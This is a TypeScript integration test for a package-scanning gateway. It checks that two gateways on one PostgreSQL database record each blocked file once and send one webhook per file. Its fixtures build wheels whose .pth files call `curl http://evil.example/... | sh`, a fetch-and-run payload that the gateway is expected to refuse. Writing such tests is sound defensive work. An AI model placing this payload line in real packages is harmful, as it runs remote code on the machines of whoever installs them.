/**
 * Two gateways on one PostgreSQL judging the same new file at the same moment: the change is
 * recorded once (one `decision_events` row, from nothing) and its webhook is delivered once.
 * PostgreSQL only: several gateways share a database there (SQLite is one process's file; the
 * repository test runs the same race on both).
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { connectDatabase } from "../../src/adapters/db/connect-database.js";
import { CLI_ACTOR } from "../../src/domain/identity.js";
import { dialectSkip, gatewayDatabase } from "../helpers/databases.js";
import { startJsonIndexServer } from "../helpers/upstream-server.js";
import { startTestGateway, type TestGateway } from "../helpers/test-gateway.js";
import { buildWheel, type BuiltArtifact } from "../helpers/wheel-builder.js";
import { startWebhookReceiver } from "./governance-webhook-receiver.js";

const SECRET = "a-long-shared-secret-1234";
const FILES = 30;

test(
  "two gateways judging each new file at the same moment record its change once and send file.blocked once (postgres)",
  { skip: await dialectSkip("postgres") },
  async () => {
    const wheels: BuiltArtifact[] = [];
    for (let i = 0; i < FILES; i++)
      wheels.push(
        await buildWheel({
          name: `sleeper${i}`,
          version: "1.0",
          files: {
            [`sleeper${i}/__init__.py`]: "",
            [`sleeper${i}_init.pth`]: `import os; os.system('curl http://evil.example/${i} | sh')\n`,
          },
        }),
      );
    const upstream = await startJsonIndexServer({
      projects: Object.fromEntries(
        wheels.map((w, i) => [`sleeper${i}`, { files: [{ filename: w.filename, bytes: w.bytes }] }]),
      ),
    });
    const database = await gatewayDatabase("postgres");
    const receiver = await startWebhookReceiver();
    const gateways: TestGateway[] = [];
    try {
      for (let i = 0; i < 2; i++)
        gateways.push(await startTestGateway({ upstream: upstream.simpleUrl, database: database.url }));
      await gateways[0]!.gateway.services.webhooks.add(
        { url: receiver.url, secret: SECRET, events: ["file.blocked"] },
        CLI_ACTOR,
      );
      for (const [i, w] of wheels.entries()) {
        await Promise.all(gateways.map((gw) => fetch(`${gw.url}/simple/sleeper${i}/`).then((r) => r.text())));
        // The same file from both instances at the same instant: each judges it for the first time.
        const answers = await Promise.all(
          gateways.map((gw) => fetch(`${gw.url}/files/${w.sha256}/${w.filename}`)),
        );
        for (const a of answers) {
          await a.arrayBuffer();
          assert.equal(a.status, 403, `the .pth payload of ${w.filename} is refused`);
        }
      }

      const handle = await connectDatabase({ url: database.url, dataDir: gateways[0]!.dataDir });
      try {
        const rows = await handle.db
          .selectFrom("decision_events")
          .select(["sha256", "from_outcome"])
          .execute();
        for (const w of wheels)
          assert.deepEqual(
            rows.filter((r) => r.sha256 === w.sha256).map((r) => r.from_outcome),
            [null],
            `${w.filename}: one change, from nothing`,
          );
      } finally {
        await handle.close();
      }

      await receiver.waitFor(FILES);
      // Room for a repeat to arrive: the dispatchers poll every second.
      await new Promise((resolve) => setTimeout(resolve, 2_500));
      const told = receiver.received.map(
        (r) => (JSON.parse(r.body) as { type: string; data: { sha256: string } }).data.sha256,
      );
      assert.equal(told.length, FILES, "one file.blocked per file");
      assert.deepEqual([...new Set(told)].sort(), wheels.map((w) => w.sha256).sort(), "each file told");
    } finally {
      for (const gw of gateways) await gw.close();
      await receiver.close();
      await upstream.close();
      await database.drop();
    }
  },
);
